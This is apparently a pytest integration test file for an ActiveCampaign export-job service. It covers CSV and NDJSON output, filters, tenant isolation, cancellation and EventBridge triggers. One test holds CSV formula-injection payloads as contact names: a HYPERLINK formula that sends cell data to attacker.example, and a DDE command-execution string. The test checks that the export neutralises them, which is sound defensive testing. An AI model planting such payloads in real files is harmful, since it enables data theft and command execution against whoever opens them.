"""Full exports as jobs, through the local API Gateway, the (moto) queue, bucket and event bus, the worker and
the AC stand-in: each resource and format gives the exact file, filters and updated_after select exactly,
bad requests change nothing, tenants never see each other's jobs, cancel stops a job, EventBridge starts one.
Expected files are computed from the stand-in's data (jobs_kit.Kit.expected), never hard-coded."""

import datetime as dt
import json
import os
import time
from pathlib import Path

import pytest
from acexport.jobs import service as job_requests

from tests.integration.jobs_kit import ids


@pytest.mark.parametrize("resource", ["contacts", "deals", "accounts"])
def test_ndjson_file_holds_every_record_once_with_the_page_exports_enrichment(kit, resource):
    job, records = kit.run(resource)
    expected = kit.expected(resource)
    assert records == expected                     # AC's fields untouched, enrichment beside them, id order
    assert job["records_written"] == job["file"]["records"] == len(expected) == job["total_expected"]
    assert job["percent"] == 100.0 and job["error"] is None and job["eta_seconds"] is None
    assert job["file"]["name"].endswith(".ndjson.gz") and job["file"]["compression"] == "gzip"
    assert job["started_at"] and job["finished_at"] and job["file"]["url_expires_at"]


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
@pytest.mark.parametrize("resource", ["contacts", "deals", "accounts"])
def test_csv_has_a_header_row_and_nested_fields_as_json(kit, resource):
    job, rows = kit.run(resource, {"format": "csv"})
    expected = kit.expected(resource)
    header, body = rows[0], rows[1:]
    assert header[-1] == "_extra" and len(body) == len(expected) == job["file"]["records"]
    for row, record in zip(body, expected, strict=True):
        cells = dict(zip(header, row, strict=True))
        extra = json.loads(cells.pop("_extra") or "{}")
        for key, value in record.items():
            cell = cells.get(key)
            if key not in cells:
                assert extra[key] == value           # a key the first page did not have: kept in _extra
            elif isinstance(value, dict | list):
                assert json.loads(cell) == value
            elif value is None:
                assert cell == ""
            elif isinstance(value, bool):
                assert cell == str(value).lower()
            elif cell != str(value):        # a cell a spreadsheet would run (a phone "+1 (555) ..."): inert
                assert cell == "'" + str(value) and str(value).lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")
            else:
                assert cell == str(value)


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_a_formula_typed_into_an_ac_form_is_inert_in_csv_and_exact_in_ndjson(kit):
    """A contact who filled in a public AC form with a formula: a spreadsheet opening the CSV file shows it as
    text (a leading '), the NDJSON file carries it exactly as AC sent it."""
    link, dde = '=HYPERLINK("https://attacker.example/?d="&C2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
    contact = kit.sandbox.contacts[0]
    contact["firstName"], contact["lastName"] = link, dde
    _, rows = kit.run("contacts", {"format": "csv"})
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert (cells["id"], cells["firstName"], cells["lastName"]) == (contact["id"], "'" + link, "'" + dde)
    _, records = kit.run("contacts")
    assert (records[0]["firstName"], records[0]["lastName"]) == (link, dde)


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_a_file_spans_several_parts_and_the_walk_uses_id_greater(kit):
    kit.sandbox.generate(contacts=700)
    job, records = kit.run("contacts")
    assert ids(records) == [c["id"] for c in kit.sandbox.contacts]
    assert len(kit.doc(job["id"])["checkpoint"]["etags"]) > 3     # 16 KiB parts
    walks = [dict(r.query) for r in kit.sandbox.requests if r.path == "/contacts"]
    assert all(q["orders[id]"] == "ASC" and q["limit"] == "100" and "offset" not in q for q in walks)
    assert [q.get("id_greater") for q in walks] == [None, *[str(n) for n in range(100, 700, 100)]]
    assert kit.sandbox.count("/fields") == 1                    # reference data once per job


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_filters_are_the_page_exports_ones_applied_at_ac_or_here(kit):
    _, johns = kit.run("contacts", {"filters": {"firstName": "john"}})        # AC search=, then exact here
    assert ids(johns) == [c["id"] for c in kit.sandbox.contacts if c["firstName"].casefold() == "john"]
    assert len(johns) >= 3
    pipeline = kit.sandbox.deal_groups[1]["id"]
    _, deals = kit.run("deals", {"filters": {"pipeline": int(pipeline)}, "format": "ndjson"})
    assert ids(deals) == [d["id"] for d in kit.expected("deals") if d.get("group") == pipeline]
    assert any(dict(r.query).get("filters[group]") == pipeline for r in kit.sandbox.requests)


@pytest.mark.parametrize(("resource", "field", "at_ac"), [("contacts", "udate", True), ("deals", "mdate", True),
                                                          ("accounts", "updatedTimestamp", False)])
@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_updated_after_a_day(kit, resource, field, at_ac):
    stamps = sorted(str(r[field])[:10] for r in kit.expected(resource) if r.get(field))
    day = stamps[len(stamps) // 2]
    job, records = kit.run(resource, {"updated_after": day})
    # AC drops records without the date (the stand-in's deal stub row); filtering here keeps them
    wanted = [r["id"] for r in kit.expected(resource)
              if (not r.get(field) and not at_ac) or str(r.get(field) or "")[:10] >= day]
    assert ids(records) == wanted and 0 < len(wanted) < len(stamps) + 2
    assert job["updated_after"] == day
    sent = [dict(r.query).get("filters[updated_after]") for r in kit.sandbox.requests if r.path == f"/{resource}"]
    assert all(value == (day if at_ac else None) for value in sent)


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_updated_after_an_instant_is_exact_here_and_a_day_earlier_at_ac(kit):
    from acexport.ac.resources import timestamp

    contacts = kit.expected("contacts")
    moment = timestamp(sorted(contacts, key=lambda c: timestamp(c["udate"]))[len(contacts) // 3]["udate"])
    moment = moment.astimezone(dt.UTC)
    instant = moment.strftime("%Y-%m-%dT%H:%M:%SZ")
    _, records = kit.run("contacts", {"updated_after": instant})
    assert ids(records) == [c["id"] for c in contacts if timestamp(c["udate"]) >= moment]
    sent = {dict(r.query).get("filters[updated_after]") for r in kit.sandbox.requests if r.path == "/contacts"}
    assert sent == {(moment.date() - dt.timedelta(days=1)).isoformat()}


@pytest.mark.parametrize(("resource", "body", "status", "needle"), [
    ("leads", {}, 404, "Unknown export resource 'leads'. Supported: accounts, contacts, deals"),
    ("contacts", {"format": "xml"}, 400, "format must be one of ndjson, csv"),
    ("contacts", {"updated_after": "last tuesday"}, 400, "updated_after must be an ISO date"),
    ("contacts", {"updated_after": "2025-02-30"}, 400, "updated_after must be an ISO date"),
    # any other printable name may be a custom field's (resolved by the walk: test_custom_field_queries.py)
    ("contacts", {"filters": {"favourite\n": "x"}}, 400, "Unsupported filter 'favourite\n' for contacts. Supported:"),
    ("accounts", {"filters": {"x" * 256: "x"}}, 400, "Supported: name, search"),
    ("contacts", {"filters": {"status": "9"}}, 400, "a contact status"),
    ("deals", {"filters": {"updated_after": "2025-01-01"}, "updated_after": "2025-01-01"}, 400, "not both"),
    ("contacts", {"filters": ["email"]}, 400, "filters must be an object"),
    ("contacts", {"filters": {"email": True}}, 400, "must be a string or a number"),
    ("contacts", {"orders": {"email": "ASC"}}, 400, "Unsupported field 'orders'"),
])
def test_bad_requests_are_refused_before_anything_is_stored_or_sent(kit, resource, body, status, needle):
    reply = kit.post(resource, body)
    assert reply.status_code == status, reply.text
    assert needle in reply.json()["message"] and reply.json()["errno"] == status
    assert kit.mongo[os.environ["JOBS_COLLECTION"]].count_documents({}) == 0
    assert kit.sandbox.count() == 0
    assert not kit.sqs().receive_message(QueueUrl=kit.queue_url, WaitTimeSeconds=0).get("Messages")


def test_a_body_that_is_not_an_object_is_400(kit):
    reply = kit.post("contacts", data="[1, 2]", json=None, headers={"Content-Type": "application/json"})
    assert reply.status_code == 400 and reply.json()["message"] == "Request body must be a JSON object"


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_not_connected_is_404_unauthorised_access(kit):
    reply = kit.post("contacts", token=kit.api.token(uid="stranger"))
    assert reply.status_code == 404
    assert reply.json() == {"success": False, "errno": 404, "message": "Unauthorised Access"}


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_another_tenants_job_is_exactly_a_missing_one(kit):
    job, _ = kit.run("accounts")
    other = kit.api.token(uid="user-2")
    kit.api.connect(token=other)
    missing = kit.get("x" * 32, token=other)
    for reply in (kit.get(job["id"], token=other),
                  kit.api.call("DELETE", f"/export/jobs/{job['id']}", token=other)):
        assert reply.status_code == 404 and reply.json() == missing.json()
        assert reply.json() == {"success": False, "errno": 404, "message": "Export job not found"}
    assert kit.api.call("GET", "/export/jobs", token=other).json()["data"] == []
    mine = kit.api.call("GET", "/export/jobs").json()
    assert ids(mine["data"]) == [job["id"]] and mine["data"][0]["file"]["url"] is None   # lists carry no URL
    assert kit.get(job["id"]).json()["data"]["file"]["url"]


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_list_is_newest_first_paged_and_filtered(kit):
    first, _ = kit.run("accounts")
    second, _ = kit.run("accounts", {"format": "csv"})
    reply = kit.api.call("GET", "/export/jobs", params={"limit": 1, "page": 2})
    assert ids(reply.json()["data"]) == [first["id"]]
    assert reply.json()["pagination"] == {"page": "2", "limit": "1", "total": "2", "next_page": None, "prev_page": 1}
    listed = kit.api.call("GET", "/export/jobs", params={"filters[resource]": "contacts"}).json()
    assert listed["data"] == [] and listed["pagination"]["total"] == "0"
    assert ids(kit.api.call("GET", "/export/jobs").json()["data"]) == [second["id"], first["id"]]
    bad = kit.api.call("GET", "/export/jobs", params={"filters[status]": "sleeping"})
    assert bad.status_code == 400 and "must be one of queued, running" in bad.json()["message"]


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_cancel_stops_a_running_job_aborts_its_upload_and_says_so(kit):
    kit.sandbox.generate(contacts=600)
    kit.sandbox.inject(delay=0.3, times=100, path="/contacts")   # slow AC: the job is still running below
    job = kit.start("contacts")
    kit.wait(job["id"], until=("running",))
    reply = kit.api.call("DELETE", f"/export/jobs/{job['id']}")
    assert reply.status_code == 200 and reply.json()["data"]["status"] == "cancelled"
    deadline = time.monotonic() + 10
    while not kit.finished_events(job["id"]):
        assert time.monotonic() < deadline, "no finished event for the cancelled job"
        time.sleep(0.1)
    (event,) = kit.finished_events(job["id"])
    assert event["detail"]["status"] == "cancelled" and "s3" not in event["detail"]
    upload = kit.doc(job["id"])["upload"]
    assert not kit.s3().list_multipart_uploads(Bucket=upload["bucket"]).get("Uploads")   # aborted
    assert kit.get(job["id"]).json()["data"]["status"] == "cancelled"
    again = kit.api.call("DELETE", f"/export/jobs/{job['id']}")
    assert again.status_code == 409 and again.json()["message"] == "Export job already cancelled"


@pytest.mark.slow  # >= 1 s of real waiting
def test_progress_and_estimate_while_running(kit, monkeypatch):
    kit.sandbox.generate(contacts=500)
    kit.sandbox.inject(delay=0.25, times=100, path="/contacts")
    job = kit.start("contacts")
    deadline = time.monotonic() + 10
    while True:
        seen = kit.get(job["id"]).json()["data"]
        if seen["status"] == "running" and seen["records_read"]:
            break
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert seen["total_expected"] == 500 and 0 < seen["percent"] < 100
    assert seen["eta_seconds"] is not None and seen["eta_seconds"] >= 0 and seen["file"] is None
    assert kit.wait(job["id"])["status"] == "succeeded"


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_a_finished_job_is_announced_with_its_s3_location(kit):
    job, _ = kit.run("deals")
    (event,) = kit.finished_events(job["id"])
    detail = event["detail"]
    assert event["source"] == "activecampaign-integration"
    assert detail["status"] == "succeeded" and detail["records"] == len(kit.sandbox.deals)
    assert detail["account_id"] == "account-1" and detail["owner"] == "user-1" and detail["resource"] == "deals"
    s3 = detail["s3"]
    assert s3["uri"] == f"s3://{s3['bucket']}/{s3['key']}" and s3["size"] == job["file"]["size"]
    assert kit.s3().head_object(Bucket=s3["bucket"], Key=s3["key"])["ContentLength"] == s3["size"]


def test_eventbridge_request_starts_a_job_once_per_event(kit):
    events = kit.stack.events.client("events")
    detail = {"account_id": "account-1", "owner": "user-1", "resource": "accounts",
              "options": {"format": "csv", "filters": {"search": "Acme"}}}
    # the second security round: requests go to the service's own bus (EVENT_BUS_NAME), with a source the rule trusts
    reply = events.put_events(Entries=[{"Source": "platform.sync", "DetailType": "ActiveCampaign Export Requested",
                                        "EventBusName": "activecampaign-integration", "Detail": json.dumps(detail)}])
    assert reply["FailedEntryCount"] == 0
    coll = kit.mongo[os.environ["JOBS_COLLECTION"]]
    deadline = time.monotonic() + 10
    while not coll.find_one({"source": "eventbridge", "status": "succeeded"}):
        assert time.monotonic() < deadline, list(coll.find({}, {"checkpoint": 0}))
        time.sleep(0.1)
    doc = coll.find_one({"source": "eventbridge"})
    job = kit.get(doc["_id"]).json()["data"]          # the owner sees it like any of their jobs
    rows = kit.download(job)
    assert [row[rows[0].index("name")] for row in rows[1:]] == \
        [a["name"] for a in kit.expected("accounts") if "acme" in a["name"].casefold()]
    (finished,) = kit.finished_events(doc["_id"])
    assert finished["detail"]["source"] == "eventbridge" and finished["detail"]["request_id"]
    # EventBridge delivers at least once: the same event again is the same job
    again = job_requests.start_from_event({"id": finished["detail"]["request_id"], "detail": detail})
    assert again["_id"] == doc["_id"] and coll.count_documents({}) == 1


def test_an_eventbridge_request_that_cannot_start_is_answered_with_a_rejection(kit):
    assert job_requests.start_from_event({"id": "e-1", "detail": {"account_id": "account-1", "owner": "nobody",
                                                                  "resource": "contacts"}}) is None
    assert job_requests.start_from_event({"id": "e-2", "detail": {"account_id": "account-1", "owner": "user-1",
                                                                  "resource": "leads"}}) is None
    rejected = {e["detail"]["request_id"]: e["detail"] for e in kit.stack.events.published()
                if e["detail-type"] == "ActiveCampaign Export Request Rejected"}
    assert rejected["e-1"]["status"] == 404 and rejected["e-1"]["error"] == "Unauthorised Access"
    assert rejected["e-2"]["status"] == 404 and "Unknown export resource" in rejected["e-2"]["error"]


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_at_most_n_jobs_in_progress_per_caller(kit):
    kit.api.env(EXPORT_MAX_ACTIVE_JOBS="2")
    kit.sandbox.inject(delay=0.5, times=20, path="/accounts")
    for _ in range(2):
        kit.start("accounts")
    reply = kit.post("accounts")
    assert reply.status_code == 429 and reply.headers["Retry-After"] == "60"
    assert "At most 2 export jobs" in reply.json()["message"]


@pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
def test_the_sample_events_run_through_their_handlers(kit):
    """events/export_job_*.json, export_worker.json: what `sam local invoke -e` would send."""
    def event(name):
        return json.loads((Path(__file__).resolve().parents[2] / "events" / f"{name}.json").read_text())

    invoke = kit.stack.api.invoke
    dev = kit.api.token("dev-user", "dev-account", workspace_id="dev-workspace")   # the events' caller
    kit.api.connect(token=dev)
    started = invoke("ExportJobStartFunction", event("export_job_start"))
    assert started["statusCode"] == 202, started
    job = json.loads(started["body"])["data"]
    assert (job["resource"], job["format"], job["filters"]) == ("contacts", "csv", {"firstName": "John"})
    done = kit.wait(job["id"], token=dev)
    rows = kit.download(done)
    assert {row[rows[0].index("firstName")].casefold() for row in rows[1:]} == {"john"}
    for name, function in (("export_job_status", "ExportJobStatusFunction"),
                           ("export_job_cancel", "ExportJobCancelFunction")):
        sample = event(name)
        payload = json.loads(json.dumps(sample).replace(sample["pathParameters"]["job_id"], job["id"]))
        reply = invoke(function, payload)
        assert reply["statusCode"] == (200 if name.endswith("status") else 409), reply
    listed = invoke("ExportJobListFunction", event("export_job_list"))
    assert [j["id"] for j in json.loads(listed["body"])["data"]] == [job["id"]]
    # the worker and the dead-letter consumer with a message for a job that does not exist: nothing happens
    assert invoke("ExportWorkerFunction", event("export_worker")) == {"batchItemFailures": []}
    assert invoke("ExportJobDeadLettersFunction", event("export_job_dead_letters")) == {"batchItemFailures": []}
    assert invoke("ExportJobEventsFunction", event("export_job_events"))["job_id"]
